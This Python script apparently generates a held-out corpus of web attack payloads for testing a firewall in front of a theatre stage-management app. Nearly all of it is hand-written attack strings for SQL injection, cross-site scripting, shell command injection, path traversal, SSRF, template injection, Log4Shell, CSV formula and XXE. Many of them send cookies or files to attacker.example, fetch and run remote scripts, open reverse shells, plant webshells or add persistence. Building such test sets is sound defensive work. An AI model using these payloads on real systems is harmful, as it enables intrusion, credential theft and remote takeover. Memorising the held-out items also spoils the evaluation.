#!/usr/bin/env python3
"""Held-out WAF attack corpus for the theater / stage-production app.

Standard library only. Every payload below was written by hand for this theme.
The only computed values are a seeded sample of literals re-emitted with one
URL-encoding pass (class suffix "+urlencode").
Writes attacks.jsonl next to this file.
"""
import json
import os
import random
import urllib.parse

SEED = 10802
PREFIX = "haa8"
SEP = " \u27eb "  # separates class from value in the blocks below

SQLI = r"""
note-union-select ⟫ LX 14 GO' UNION SELECT username,password_hash FROM users-- -
note-union-select ⟫ Act 2 Sc 3' UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables-- -
plain-boolean ⟫ ' OR '1'='1
name-boolean-hash ⟫ Hamlet' OR 1=1#
seat-number-boolean ⟫ 14 OR 1=1
seat-paren-boolean ⟫ 12) OR (1=1
cue-mysql-sleep ⟫ SQ 3' AND SLEEP(5)-- 
note-pg-stacked-sleep ⟫ Blackout at top of Act II'; SELECT pg_sleep(10)--
row-mssql-waitfor ⟫ Row F'; WAITFOR DELAY '0:0:7'--
prop-oracle-pipe-sleep ⟫ Props table SL' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',8)--
title-sqlite-master ⟫ Macbeth' UNION SELECT sql,2 FROM sqlite_master--
cue-stacked-drop ⟫ Cue 22 standby'; DROP TABLE performances;--
note-mysql-extractvalue ⟫ fly bar 7 snag' AND extractvalue(1,concat(0x7e,(SELECT version())))-- 
note-mysql-updatexml ⟫ costume fitting' AND updatexml(1,concat(0x3a,(SELECT user())),1)-- 
note-mssql-convert-error ⟫ Mic 4 dropout' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--
note-pg-cast-error ⟫ Follow spot 2' AND 1=CAST((SELECT current_user) AS int)--
comment-as-space-union ⟫ '/**/UNION/**/SELECT/**/email,pass/**/FROM/**/patrons--
case-mixed-union ⟫ Ophelia' uNiOn SeLeCt 1,@@version-- -
mysql-versioned-comment ⟫ Gertrude' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- -
number-order-by-probe ⟫ 1 ORDER BY 5--
number-union-concat ⟫ -1 UNION SELECT 1,concat(login,0x3a,pwd),3 FROM staff
note-blind-substring ⟫ Q2 late' AND SUBSTRING((SELECT password FROM users WHERE id=1),1,1)='a'--
note-mssql-xp-cmdshell ⟫ Rehearsal 4 notes'; EXEC master..xp_cmdshell 'ping 203.0.113.7'--
oracle-utl-http-concat ⟫ ' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '
mysql-load-file ⟫ Programme copy' UNION SELECT LOAD_FILE('/etc/passwd'),2-- 
mysql-into-outfile ⟫ ' UNION SELECT '<?php system($_GET[c]);?>',2 INTO OUTFILE '/var/www/html/s.php'-- 
pg-copy-program ⟫ Strike list'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/x|sh'--
mysql-benchmark ⟫ haze check' OR BENCHMARK(5000000,MD5(1))-- 
mssql-having-probe ⟫ ' HAVING 1=1--
mssql-group-by-having ⟫ Viola' GROUP BY id HAVING 1=1--
insert-values-subquery ⟫ Ophelia', (SELECT password FROM users LIMIT 1))-- 
update-set-role ⟫ ASM', role='admin' WHERE login='stagemgr'-- 
plain-double-quote-boolean ⟫ " OR ""="
mysql-hex-literal ⟫ Puck' UNION SELECT 0x61646d696e,2-- 
mysql-char-function ⟫ ' OR login=CHAR(97,100,109,105,110)-- 
mssql-xp-dirtree-oob ⟫ '; DECLARE @q varchar(99);SET @q='\\attacker.example\x';EXEC master.dbo.xp_dirtree @q;--
oracle-all-users-probe ⟫ Titania' AND (SELECT COUNT(*) FROM all_users)>0 AND 'a'='a
sqlite-randomblob-delay ⟫ Bottom' AND 1=randomblob(500000000)-- 
pg-subselect-sleep ⟫ house open 19:00' AND 1=(SELECT 1 FROM pg_sleep(6))-- 
handwritten-urlencode-boolean ⟫ %27%20OR%201%3D1--%20
handwritten-double-urlencode ⟫ %2527%2520UNION%2520SELECT%2520NULL--
sort-param-case-error ⟫ name,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1/0 END)
sort-param-blind-case ⟫ (CASE WHEN (SELECT substr(password,1,1) FROM users LIMIT 1)='a' THEN title ELSE venue END)
limit-procedure-analyse ⟫ 1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x7e,version())),1)
login-hash-comment ⟫ admin'#
login-dash-comment ⟫ stage_manager'--
plain-like-boolean ⟫ ' OR 'x' LIKE 'x
oracle-concat-subquery ⟫ Lear'||(SELECT password FROM users WHERE rownum=1)||'
blind-ascii-database ⟫ SQ 12' AND ascii(substr((select database()),1,1))>100-- 
mssql-stacked-version ⟫ Cue 9';SELECT @@version;--
pg-number-read-file ⟫ 1;SELECT pg_read_file('/etc/passwd')
mysql-group-concat-columns ⟫ ' UNION SELECT group_concat(column_name),2 FROM information_schema.columns WHERE table_name='tickets'-- 
paren-string-boolean ⟫ Macduff') OR ('a'='a
double-paren-union ⟫ Banquo')) UNION SELECT 1,2,3-- -
number-false-union ⟫ 1 AND 1=2 UNION SELECT 1,table_name FROM information_schema.tables
mysql-floor-rand-error ⟫ ' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- 
handwritten-urlencode-sleep ⟫ LX%2014%27%20AND%20SLEEP(4)%23
newline-as-space-union ⟫ Scene 5'%0AUNION%0ASELECT%0A1,2--
plus-as-space-boolean ⟫ Ariel'+OR+1=1--
comment-space-hex-boolean ⟫ 1'/**/AND/**/0x31=0x31/**/--
mssql-in-version-error ⟫ ' OR 1 IN (SELECT @@version)-- 
mssql-shutdown ⟫ Get-in day'; SHUTDOWN--
stacked-insert-admin ⟫ Dresser'; INSERT INTO staff(login,role) VALUES('eve','admin');--
blind-exists-like ⟫ ' OR EXISTS(SELECT * FROM users WHERE username='admin' AND password LIKE 'a%')-- 
oracle-dual-null-union ⟫ Cordelia' UNION SELECT NULL,NULL,NULL FROM DUAL-- 
mysql-rlike-case ⟫ 1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))
backslash-escape-bypass ⟫ \' OR 1=1-- 
mssql-openrowset-oob ⟫ '; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','SELECT 1')--
pg-dollar-quote ⟫ Trinculo'; SELECT $$x$$ || (SELECT passwd FROM pg_shadow LIMIT 1)--
sqlite-load-extension ⟫ ' UNION SELECT load_extension('/tmp/evil.so'),2--
mysql-information-schema-processlist ⟫ Stage door' UNION SELECT info,2 FROM information_schema.processlist-- -
number-mssql-stacked-exec ⟫ 7;EXEC sp_configure 'show advanced options',1;RECONFIGURE--
""".strip("\n")

XSS = r"""
note-script-tag ⟫ LX 14 GO <script>fetch('//attacker.example/c?'+document.cookie)</script>
plain-img-onerror ⟫ <img src=x onerror=alert(document.domain)>
bio-svg-onload ⟫ Trained at RADA. <svg onload=alert(1)>
note-iframe-javascript ⟫ Blocking ref: <iframe src="javascript:alert(origin)"></iframe>
link-javascript-href ⟫ <a href="javascript:fetch('//attacker.example/'+localStorage.token)">Rehearsal schedule</a>
attr-breakout-double ⟫ Stage Left" onmouseover="alert(1)
attr-breakout-single ⟫ Downstage' autofocus onfocus='alert(document.cookie)
attr-breakout-tag ⟫ "><script>alert(1)</script>
js-string-breakout ⟫ ';alert(document.cookie);//
js-string-breakout-double ⟫ "-alert(1)-"
script-close-breakout ⟫ </script><script>alert(1)</script>
textarea-breakout ⟫ </textarea><img src=x onerror=alert(1)>
title-breakout ⟫ Twelfth Night</title><svg/onload=alert(1)>
case-mixed-script ⟫ <ScRiPt>alert(1)</sCrIpT>
details-ontoggle ⟫ Costume notes <details open ontoggle=alert(1)>
body-onload ⟫ <body onload=alert('x')>
input-autofocus ⟫ <input autofocus onfocus=alert(1)>
video-source-onerror ⟫ <video><source onerror="alert(1)"></video>
audio-onerror ⟫ SQ 3 preview <audio src=x onerror=alert(1)>
marquee-onstart ⟫ <marquee onstart=alert(1)>Now showing</marquee>
object-data-uri ⟫ <object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
embed-javascript ⟫ <embed src="javascript:alert(1)">
form-action-javascript ⟫ <form action="javascript:alert(1)"><button>Book seats</button></form>
button-formaction ⟫ <button formaction="javascript:alert(1)">Confirm</button>
meta-refresh ⟫ <meta http-equiv="refresh" content="0;url=javascript:alert(1)">
base-href-hijack ⟫ <base href="//attacker.example/">
entity-encoded-javascript ⟫ <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Cue sheet</a>
hex-entity-javascript ⟫ <a href="&#x6A;avascript&#x3A;alert(1)">map</a>
tab-in-scheme ⟫ <a href="jav&#x09;ascript:alert(1)">seat plan</a>
svg-animate-href ⟫ <svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>Click</text></a></svg>
svg-script ⟫ <svg><script>alert(1)</script></svg>
math-xlink ⟫ <math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>
style-expression-old-ie ⟫ <div style="width:expression(alert(1))">Set</div>
img-srcset-onerror ⟫ <img srcset=",,x" onerror=alert(1)>
slash-separator ⟫ <img/src/onerror=alert(1)>
newline-separator ⟫ <img%0Asrc=x%0Aonerror=alert(1)>
note-fromcharcode ⟫ Prop list <img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>
atob-eval ⟫ <svg onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>
backtick-call ⟫ <img src=x onerror=alert`1`>
constructor-call ⟫ <svg onload=[].constructor.constructor('alert(1)')()>
unicode-escape-js ⟫ <img src=x onerror="\u0061lert(1)">
top-bracket ⟫ <svg onload=top['al'+'ert'](1)>
url-encoded-script ⟫ %3Cscript%3Ealert(1)%3C%2Fscript%3E
double-url-encoded ⟫ %253Csvg%2520onload%253Dalert(1)%253E
angular-template ⟫ {{constructor.constructor('alert(1)')()}}
vue-template ⟫ <div v-html="'<img src=x onerror=alert(1)>'"></div>
markdown-javascript-link ⟫ [Download the script](javascript:alert(document.cookie))
markdown-image-onerror ⟫ ![poster](x" onerror="alert(1))
style-import ⟫ <style>@import 'https://attacker.example/x.css';</style>
link-stylesheet ⟫ <link rel=stylesheet href=//attacker.example/s.css>
script-src-remote ⟫ Stage management: <script src=//attacker.example/sm.js></script>
keylog-onkeypress ⟫ <input onkeypress="new Image().src='//attacker.example/k?'+event.key">
dom-location-hash ⟫ <img src=x onerror=eval(location.hash.slice(1))>
srcdoc-iframe ⟫ <iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
noscript-mxss ⟫ <noscript><p title="</noscript><img src=x onerror=alert(1)>">
template-mxss ⟫ <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
xml-namespace-script ⟫ <x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>
table-background ⟫ <table background="javascript:alert(1)"><tr><td>Cast</td></tr></table>
onpointerenter ⟫ <div onpointerenter=alert(1) style="position:fixed;inset:0">Seating</div>
oncontentvisibility ⟫ <p oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>Act I</p>
onanimationstart ⟫ <style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=alert(1)>Bows</b>
fullwidth-angle-normalized ⟫ ＜script＞alert(1)＜/script＞
overlong-utf8-angle ⟫ %C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE
percent-u-encoded ⟫ %u003Cimg src=x onerror=alert(1)%u003E
json-string-html ⟫ {"note":"<img src=x onerror=alert(1)>"}
cue-name-svg ⟫ Q47 "Sunrise" <svg/onload=alert(document.cookie)>
ticket-note-onerror ⟫ Wheelchair space, row A. <img src=//attacker.example/t.gif onerror=this.src='//attacker.example/?'+document.cookie>
programme-title-breakout ⟫ Les Misérables</h1><script>alert(1)</script><h1>
data-uri-script-src ⟫ <script src="data:text/javascript,alert(1)"></script>
isindex-action ⟫ <isindex type=image src=1 onerror=alert(1)>
comment-breakout ⟫ --><img src=x onerror=alert(1)><!--
cdata-breakout ⟫ <![CDATA[<script>alert(1)</script>]]>
""".strip("\n")

CMDI = r"""
filename-semicolon ⟫ cue_sheet_act1.pdf; cat /etc/passwd
filename-pipe ⟫ rehearsal_report.docx | id
filename-and ⟫ sq3_thunder.wav && curl http://attacker.example/s.sh | sh
filename-or ⟫ poster.png || wget -qO- http://203.0.113.5/x | bash
subshell-dollar ⟫ Act2_Sc1_$(whoami).txt
subshell-backtick ⟫ blocking_`id`.pdf
newline-separator ⟫ lx_export.csv%0Auname -a
plain-semicolon ⟫ ; id
plain-reverse-shell ⟫ ; bash -i >& /dev/tcp/203.0.113.10/4444 0>&1
nc-reverse ⟫ show.qlab | nc 198.51.100.20 9001 -e /bin/sh
ifs-space ⟫ ;cat${IFS}/etc/shadow
brace-expansion ⟫ ;{cat,/etc/passwd}
quote-split ⟫ ;c'a't /etc/pas's'wd
backslash-split ⟫ ;w\ho\am\i
variable-glob ⟫ ;/???/?at /???/p?ss??
hex-printf ⟫ ;$(printf '\x69\x64')
base64-pipe ⟫ ;echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3Auc2ggfCBzaA== | base64 -d | sh
python-inline ⟫ ; python3 -c 'import os;os.system("id")'
perl-inline ⟫ | perl -e 'exec "/bin/sh"'
sleep-blind ⟫ Hamlet_Act3.pdf; sleep 10 #
ping-blind ⟫ & ping -c 12 127.0.0.1 &
nslookup-oob ⟫ ; nslookup $(whoami).attacker.example
curl-exfil ⟫ `curl -d @/etc/passwd http://attacker.example/u`
arg-injection-curl-output ⟫ -o /var/www/html/shell.php http://attacker.example/s.txt
arg-injection-tar-checkpoint ⟫ --checkpoint=1 --checkpoint-action=exec=sh /tmp/p.sh
arg-injection-find-exec ⟫ props -exec sh -c 'id' \;
arg-injection-ssh-proxy ⟫ -oProxyCommand=curl attacker.example/r|sh
arg-injection-git-upload ⟫ --upload-pack=touch /tmp/pwned
arg-injection-ffmpeg-url ⟫ -i http://attacker.example/cue.m3u8 -f null /dev/null
arg-injection-imagemagick ⟫ poster.jpg' -write '|id > /tmp/o' '
arg-injection-sendmail ⟫ stage@theatre.example -X/var/www/html/log.php -OQueueDirectory=/tmp
arg-injection-zip-unzipcmd ⟫ -TT 'sh -c id' -T
arg-injection-rsync-e ⟫ -e 'sh -c id' backup/
arg-injection-wget-post ⟫ --post-file=/etc/passwd http://attacker.example/
windows-amp ⟫ programme.pdf & type C:\Windows\win.ini
windows-pipe-whoami ⟫ seating.xlsx | whoami /all
windows-caret-obfuscation ⟫ & w^h^o^a^m^i
windows-powershell-iex ⟫ & powershell -nop -c "IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')"
windows-powershell-encoded ⟫ | powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==
windows-certutil ⟫ & certutil -urlcache -split -f http://203.0.113.8/p.exe %TEMP%\p.exe & %TEMP%\p.exe
windows-cmd-set-substring ⟫ & cmd /c "set x=whoami&& call %x%"
windows-env-substring ⟫ & %COMSPEC:~0,1%%COMSPEC:~-7,3% /c dir
windows-rundll ⟫ & rundll32 \\203.0.113.4\share\x.dll,Main
powershell-semicolon ⟫ '; Get-Content C:\inetpub\wwwroot\web.config; '
powershell-subexpr ⟫ SQ_$(Invoke-WebRequest http://attacker.example/p).wav
cue-macro-shell ⟫ GO SQ 5; rm -rf /var/lib/showfiles
cue-label-subshell ⟫ LX 14 "Dawn $(curl -s attacker.example/x.sh|sh)"
osc-cmd-note ⟫ /eos/cue/14/fire && nc -e /bin/sh 203.0.113.2 53
tee-webshell ⟫ ; echo '<?php system($_GET["c"]); ?>' | tee /var/www/html/c.php
crontab-persist ⟫ ; (crontab -l; echo '* * * * * curl attacker.example/b|sh') | crontab -
ssh-key-persist ⟫ ; echo ssh-ed25519 AAAAFAKEKEYONLY attacker >> ~/.ssh/authorized_keys
env-dump ⟫ ; env | curl -X POST --data-binary @- http://attacker.example/e
proc-environ ⟫ ; cat /proc/self/environ
url-encoded-semicolon ⟫ thunder.wav%3Bcat%20%2Fetc%2Fpasswd
url-encoded-pipe ⟫ cue.csv%7Cid
double-url-subshell ⟫ %2524%2528id%2529
dollar-at-obfuscation ⟫ ;wh$@oami
unset-var-obfuscation ⟫ ;cat /et$()c/pa$()sswd
tab-separator ⟫ ;cat	/etc/passwd
ld-preload ⟫ ; LD_PRELOAD=/tmp/x.so ls
php-system-style ⟫ || php -r 'system("id");'
ruby-inline ⟫ ; ruby -e '`id`'
node-inline ⟫ ; node -e 'require("child_process").exec("id")'
busybox-telnetd ⟫ ; busybox telnetd -l /bin/sh -p 4444
awk-system ⟫ ; awk 'BEGIN{system("id")}'
xargs-sh ⟫ | xargs -I{} sh -c 'id'
process-substitution ⟫ ; bash <(curl -s http://attacker.example/i.sh)
""".strip("\n")

TRAVERSAL = r"""
script-path-dotdot ⟫ scripts/hamlet/../../../../etc/passwd
plain-dotdot ⟫ ../../../../etc/shadow
absolute-path ⟫ /etc/passwd
proc-self ⟫ ../../../../proc/self/environ
cue-audio-dotdot ⟫ sound/act1/../../../../../root/.ssh/id_rsa
url-encoded ⟫ %2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd
double-url-encoded ⟫ %252e%252e%252f%252e%252e%252fetc%252fpasswd
overlong-utf8 ⟫ %c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd
overlong-utf8-slash ⟫ ..%c0%af..%c0%af..%c0%afetc/passwd
percent-u ⟫ %u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd
windows-backslash ⟫ ..\..\..\Windows\win.ini
windows-encoded-backslash ⟫ ..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts
windows-absolute ⟫ C:\Windows\System32\config\SAM
windows-unc ⟫ \\203.0.113.6\share\cue.wav
nested-dotdot-filter-bypass ⟫ ....//....//....//etc/passwd
nested-backslash-bypass ⟫ ....\\....\\....\\boot.ini
dot-slash-mixed ⟫ ./.././.././../etc/passwd
null-byte-extension ⟫ ../../../etc/passwd%00.pdf
null-byte-image ⟫ posters/../../../../etc/hosts%00.png
semicolon-path-param ⟫ ..;/..;/..;/WEB-INF/web.xml
web-inf ⟫ ../../WEB-INF/web.xml
dotenv ⟫ uploads/../../.env
git-config ⟫ ../../../.git/config
app-config ⟫ programme/../../config/database.yml
file-scheme ⟫ file:///etc/passwd
php-filter-wrapper ⟫ php://filter/convert.base64-encode/resource=../config.php
php-zip-wrapper ⟫ zip://uploads/set_model.zip#shell.php
php-data-wrapper ⟫ data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==
php-expect-wrapper ⟫ expect://id
log-file ⟫ ../../../../var/log/nginx/access.log
ssh-key ⟫ ../../../home/stage/.ssh/id_ed25519
k8s-token ⟫ ../../../../var/run/secrets/kubernetes.io/serviceaccount/token
aws-credentials ⟫ ../../../../root/.aws/credentials
fullwidth-dots-normalized ⟫ ．．／．．／．．／etc／passwd
mixed-case-encoding ⟫ %2E%2e%2F%2e%2E/%2e%2e%2fetc/passwd
dotdot-encoded-slash-only ⟫ ..%2f..%2f..%2f..%2fetc%2fgroup
dotdot-backslash-encoded-dot ⟫ %2e%2e\%2e%2e\%2e%2e\windows\win.ini
lighting-show-file ⟫ eos/showfiles/../../../../etc/passwd
costume-image ⟫ costumes/act2/lady_m.jpg/../../../../../../etc/passwd
zip-slip-entry ⟫ ../../../../../var/www/html/backdoor.jsp
tomcat-bypass ⟫ /..;/manager/html
iis-short-name ⟫ ..\..\inetpub\wwwroot\web.config
dotdot-utf16-dot ⟫ %uff0e%uff0e/%uff0e%uff0e/etc/passwd
proc-cmdline ⟫ ../../../../proc/self/cmdline
etc-hosts-win ⟫ ../../../../Windows/System32/drivers/etc/hosts
""".strip("\n")

SSRF = r"""
fetch-aws-metadata ⟫ http://169.254.169.254/latest/meta-data/iam/security-credentials/
fetch-gcp-metadata ⟫ http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token
fetch-azure-metadata ⟫ http://169.254.169.254/metadata/instance?api-version=2021-02-01
fetch-alibaba-metadata ⟫ http://100.100.100.200/latest/meta-data/
poster-url-localhost ⟫ http://127.0.0.1:8080/admin
poster-url-localhost-name ⟫ http://localhost:2375/containers/json
decimal-ip ⟫ http://2130706433/
hex-ip ⟫ http://0x7f000001/
octal-ip ⟫ http://0177.0.0.1/
short-ip ⟫ http://127.1/server-status
zero-ip ⟫ http://0.0.0.0:6379/
ipv6-loopback ⟫ http://[::1]:8000/
ipv6-mapped ⟫ http://[::ffff:127.0.0.1]/admin
ipv6-mapped-metadata ⟫ http://[::ffff:a9fe:a9fe]/latest/meta-data/
decimal-metadata ⟫ http://2852039166/latest/meta-data/
hex-dotted-metadata ⟫ http://0xa9.0xfe.0xa9.0xfe/latest/user-data
mixed-octal-private ⟫ http://012.0.0.1:9200/_cat/indices
userinfo-confusion ⟫ http://tickets.theatre.example@127.0.0.1/admin
fragment-confusion ⟫ http://127.0.0.1#@cdn.theatre.example/poster.jpg
backslash-confusion ⟫ http://cdn.theatre.example\@169.254.169.254/latest/meta-data/
dns-rebind-nip ⟫ http://127.0.0.1.nip.io/
attacker-redirect ⟫ https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/
gopher-redis ⟫ gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*%2F1%20*%20*%20*%20*%20curl%20attacker.example%2Fc%7Csh%5Cn%22%0D%0ACONFIG%20SET%20dir%20%2Fvar%2Fspool%2Fcron%0D%0ASAVE%0D%0A
gopher-smtp ⟫ gopher://10.0.0.25:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cbox@attacker.example%3E%0D%0A
dict-scheme ⟫ dict://127.0.0.1:11211/stats
file-scheme-localhost ⟫ file://localhost/etc/shadow
ftp-internal ⟫ ftp://10.0.0.12/backups/
ldap-scheme ⟫ ldap://127.0.0.1:389/dc=theatre,dc=local
private-10 ⟫ http://10.0.0.5:8500/v1/agent/self
private-172 ⟫ http://172.16.0.10:9090/api/v1/targets
private-192 ⟫ http://192.168.1.1/cgi-bin/luci
internal-service-name ⟫ http://ticketing-db.internal:5984/_all_dbs
k8s-api ⟫ https://kubernetes.default.svc/api/v1/namespaces/default/secrets
docker-socket-http ⟫ http://localhost:2375/v1.41/containers/create
consul-internal ⟫ http://consul.service.consul:8500/v1/kv/?recurse
elastic-internal ⟫ http://elasticsearch:9200/_search?q=*
webhook-url-metadata ⟫ Webhook for box office: http://169.254.169.254/latest/api/token
programme-pdf-url ⟫ Programme PDF: http://127.0.0.1:5000/debug/console
import-cue-url ⟫ import cues from http://[0:0:0:0:0:ffff:7f00:1]:8080/
encoded-host ⟫ http://%31%32%37%2e%30%2e%30%2e%31/
fullwidth-host-normalized ⟫ http://１２７．０．０．１/admin
ecs-task-metadata ⟫ http://169.254.170.2/v2/credentials/
oracle-cloud-metadata ⟫ http://192.0.0.192/latest/meta-data/
digitalocean-metadata ⟫ http://169.254.169.254/metadata/v1.json
jar-scheme ⟫ jar:http://attacker.example/x.jar!/
netdoc-scheme ⟫ netdoc:///etc/passwd
php-expect ⟫ expect://curl attacker.example
attacker-dns-127 ⟫ http://loopback.attacker.example:8080/actuator/env
spring-actuator ⟫ http://127.0.0.1:8080/actuator/heapdump
""".strip("\n")

CODE = r"""
jinja2-probe ⟫ Programme note: {{7*7}}
jinja2-config ⟫ {{config.items()}}
jinja2-os-popen ⟫ {{cycler.__init__.__globals__.os.popen('id').read()}}
jinja2-subclasses ⟫ {{''.__class__.__mro__[1].__subclasses__()}}
jinja2-lipsum ⟫ Act I {{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}
jinja2-attr-filter ⟫ {{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')|attr('popen')('id')|attr('read')()}}
jinja2-statement ⟫ {% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{c()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}
twig-filter-exec ⟫ {{['id']|filter('system')}}
twig-map-passthru ⟫ Cast bio {{['cat /etc/passwd']|map('passthru')|join}}
twig-registerundefined ⟫ {{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
freemarker-execute ⟫ <#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
freemarker-api ⟫ ${"freemarker.template.utility.ObjectConstructor"?new()("java.lang.ProcessBuilder","id").start()}
velocity-runtime ⟫ #set($r=$class.inspect("java.lang.Runtime").type.getRuntime())$r.exec("id")
velocity-classloader ⟫ #set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('whoami')
thymeleaf-spel ⟫ __${T(java.lang.Runtime).getRuntime().exec('id')}__::.x
thymeleaf-preprocess ⟫ LX 14 [[${T(java.lang.Runtime).getRuntime().exec('id')}]]
spel-runtime ⟫ #{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}
spel-processbuilder ⟫ ${new java.lang.ProcessBuilder({'sh','-c','id'}).start()}
ognl-struts ⟫ %{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}
ognl-content-type ⟫ %{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('id'))}
jsp-el-probe ⟫ ${applicationScope}
jsp-el-runtime ⟫ ${pageContext.request.getSession().getServletContext()}
jakarta-el-exec ⟫ ${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}
erb-system ⟫ <%= system('id') %>
erb-backtick ⟫ Costume list <%= `cat /etc/passwd` %>
slim-ruby ⟫ #{%x(id)}
handlebars-constructor ⟫ {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require('child_process').execSync('id');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
pug-code ⟫ #{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").execSync('id').toString();return sh}()}
ejs-outputfunction ⟫ <%= global.process.mainModule.require('child_process').execSync('id') %>
nunjucks-range ⟫ {{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
mako-import ⟫ <% import os; x=os.popen('id').read() %>${x}
tornado-import ⟫ {% import os %}{{os.popen('id').read()}}
django-debug-leak ⟫ {{settings.SECRET_KEY}}
smarty-php-tag ⟫ {php}echo `id`;{/php}
smarty-system ⟫ {system('id')}
razor-csharp ⟫ @System.Diagnostics.Process.Start("cmd.exe","/c whoami")
go-template-method ⟫ {{.Exec "id"}}
python-eval-import ⟫ __import__('os').system('id')
python-eval-subprocess ⟫ LX level: __import__('subprocess').check_output(['cat','/etc/passwd'])
node-eval-child-process ⟫ require('child_process').exec('curl attacker.example/n|sh')
node-eval-process-binding ⟫ process.mainModule.require('child_process').execSync('id').toString()
php-eval-system ⟫ ";system('id');//
php-eval-assert ⟫ ${@assert($_GET[x])}
php-complex-curly ⟫ ${@system(id)}
ruby-eval ⟫ Kernel.exec('id')
log4shell-ldap ⟫ ${jndi:ldap://attacker.example/a}
log4shell-ua-note ⟫ Rehearsal call 14:00 ${jndi:rmi://203.0.113.12:1099/x}
log4shell-nested-lower ⟫ ${${lower:j}ndi:${lower:l}dap://attacker.example/o}
log4shell-default-obfuscation ⟫ ${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/z}
log4shell-env-exfil ⟫ ${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/q}
log4shell-dns ⟫ ${jndi:dns://attacker.example/t}
proto-pollution-json ⟫ {"__proto__":{"isAdmin":true}}
proto-pollution-constructor ⟫ {"constructor":{"prototype":{"role":"admin"}}}
proto-pollution-query ⟫ __proto__[isAdmin]=true
proto-pollution-ejs-gadget ⟫ {"__proto__":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}
csv-formula-hyperlink ⟫ =HYPERLINK("http://attacker.example/?d="&A1,"Seat map")
csv-dde-cmd ⟫ =cmd|' /C calc'!A0
csv-plus-dde ⟫ +cmd|' /C powershell -nop -c iwr attacker.example'!A1
csv-at-sum ⟫ @SUM(1+1)*cmd|' /C calc'!A0
csv-minus-dde ⟫ -2+3+cmd|' /C notepad'!'A1'
csv-webservice ⟫ =WEBSERVICE("http://attacker.example/x?"&A2&B2)
csv-importxml ⟫ =IMPORTXML(CONCAT("http://attacker.example/?v=",B3),"//a")
xxe-file ⟫ <?xml version="1.0"?><!DOCTYPE cues [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><cues><cue>&xxe;</cue></cues>
xxe-oob-parameter ⟫ <!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><r/>
xxe-ssrf ⟫ <?xml version="1.0"?><!DOCTYPE show [<!ENTITY m SYSTEM "http://169.254.169.254/latest/meta-data/">]><show>&m;</show>
xinclude ⟫ <lx xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></lx>
